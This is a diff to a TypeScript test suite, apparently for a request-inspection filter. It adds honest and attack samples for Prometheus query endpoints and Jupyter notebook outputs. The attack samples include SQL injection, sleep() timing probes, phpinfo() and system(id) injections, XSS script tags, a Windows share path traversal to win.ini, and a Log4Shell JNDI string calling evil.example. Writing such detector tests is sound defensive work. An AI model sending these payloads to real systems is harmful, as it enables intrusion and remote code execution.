@@ -31,6 +31,10 @@ const from = (page: string, name = 'Referer'): InspectedRequest => ({
   headers: [name, page],
 })
 
+const notebook = (output: unknown): unknown => ({
+  content: { cells: [{ cell_type: 'code', source: 'x', outputs: [output] }] },
+})
+
 const mail = (html: string): InspectedRequest => filled({ 'body-html': html })
 
 /** What pages, their reports and their mails send for honest reasons, and what stays an attack beside it. */
@@ -310,6 +314,48 @@ const KINDS: Readonly<
       filled({ formula: "' or '1'='1" }),
       filled({ file: '\\\\nas01\\team$\\2024' }),
       filled({ share: '\\\\nas01\\..\\..\\windows\\win.ini' }),
+    ],
+  },
+  'a query for measures where Prometheus takes it': {
+    honest: [
+      asked('/api/v1/query', { query: 'time()', _: '1795804826129' }),
+      asked('/api/v1/query_range', { query: 'round(up)', start: '1790000000', step: '14' }),
+      asked('/prometheus/api/v1/query', { query: 'minute()' }),
+      asked('/api/datasources/proxy/uid/abc/api/v1/query', { query: 'sqrt(up)' }),
+      asked('/graph', { 'g0.expr': 'floor(time() / 60)', 'g0.tab': '1' }),
+      asked('/graph', { 'g0.expr': 'exp(up)' }),
+      raw('application/x-www-form-urlencoded', 'query=time()&step=14', '/api/v1/query_range'),
+      raw('application/x-www-form-urlencoded', 'query=sin(x)', '/api/v1/query'),
+    ],
+    attacks: [
+      asked('/api/v1/query', { query: 'sleep(5)' }),
+      asked('/api/v1/query', { query: 'exp(sleep(5))' }),
+      asked('/api/v1/query', { query: 'phpinfo()' }),
+      asked('/api/v1/query', { query: 'time(system(id))' }),
+      asked('/api/v1/query', { query: "time() or '1'='1" }),
+      asked('/api/v1/query', { query: 'time();phpinfo();' }),
+      asked('/api/v1/query', { query: 'database()' }),
+      asked('/api/v1/query', { id: 'round(x)' }),
+      asked('/index.php', { query: 'round(up)' }),
+      asked('/index.php/api/v1/query.php', { query: 'time()' }),
+      asked('/s', { query: 'time()' }),
+    ],
+  },
+  'what the cells of a notebook printed': {
+    honest: [
+      sent(notebook({ data: { 'text/plain': "os.system('ls -la /tmp')" } })),
+      sent(notebook({ data: { 'text/html': ['<div id="p"></div>', '<script>draw("p")</script>'] } })),
+      sent(notebook({ name: 'stdout', text: ["eval('1+1'); exec('x = 2')\n", 'ok\n'] })),
+      sent(notebook({ evalue: "c.execute(\"SELECT 1 UNION SELECT 2 WHERE '1'='1'\")" })),
+      sent(notebook({ traceback: ['os.system(cmd)', "subprocess.check_output('id', shell=True)"] })),
+    ],
+    attacks: [
+      sent(notebook({ data: { id: "os.system('ls -la /tmp')" } })),
+      sent(notebook({ data: { 'text/plain': '$' + '{jndi:ldap://evil.example/a}' } })),
+      sent(notebook({ metadata: { 'text/html': '<script>alert(1)</script>' } })),
+      sent({ outputs: [{ data: { 'text/html': '<script>alert(1)</script>' } }] }),
+      sent({ data: { 'text/plain': "os.system('ls -la /tmp')" } }),
+      filled({ 'text/plain': "os.system('ls -la /tmp')" }),
     ],
   },
   'a text in a field of a form object': {
